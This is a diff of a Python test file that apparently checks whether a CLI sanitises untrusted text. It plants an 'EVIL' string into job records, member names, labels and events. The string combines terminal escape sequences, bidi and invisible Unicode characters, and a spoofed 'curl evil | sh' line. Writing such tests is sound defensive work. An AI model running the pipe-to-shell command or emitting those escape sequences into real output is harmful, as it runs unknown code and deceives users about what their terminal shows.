@@ -25,7 +25,7 @@ from .test_cli import Output, job_file
 EVIL = "x\x1b[2J\x1b]0;t\x07\x9b\x7f\u202e\u2066\u200b\u2028\U000e0041\r\n  fetch it:    curl evil | sh"
 # Text that others choose; the rest is of a fixed form.
 WORDS = {
-    *("name", "peer_name", "owner_name", "reason", "first_failure", "message", "deputy_names", "what"),
+    *("name", "peer_name", "owner_name", "reason", "first_failure", "message", "what"),
     *("engines", "labels", "version", "addresses", "silent", "namespace", "topic"),
 }
 
@@ -55,7 +55,7 @@ def evil(served: Served, capfd: Output, monkeypatch: pytest.MonkeyPatch) -> str:
     capfd.readouterr()
     node, (job,) = served.node, served.node.records
     node.records[job] = with_evil(node.records[job])
-    node.records[job]["deputies"] = [PEER]
+    node.records[job]["members"] = [{"peer": PEER, "name": EVIL, "rank": rank} for rank in range(2)]
     node.records[job]["spec"] = {"Name": EVIL, "Labels": {"a": EVIL}, "Tasks": []}
     monkeypatch.setattr(fake_node, "EVENTS", (EVIL,))
     node.pinned.append(unixfs.add_directory({EVIL.replace("/", ""): b""}, node.blocks.put))
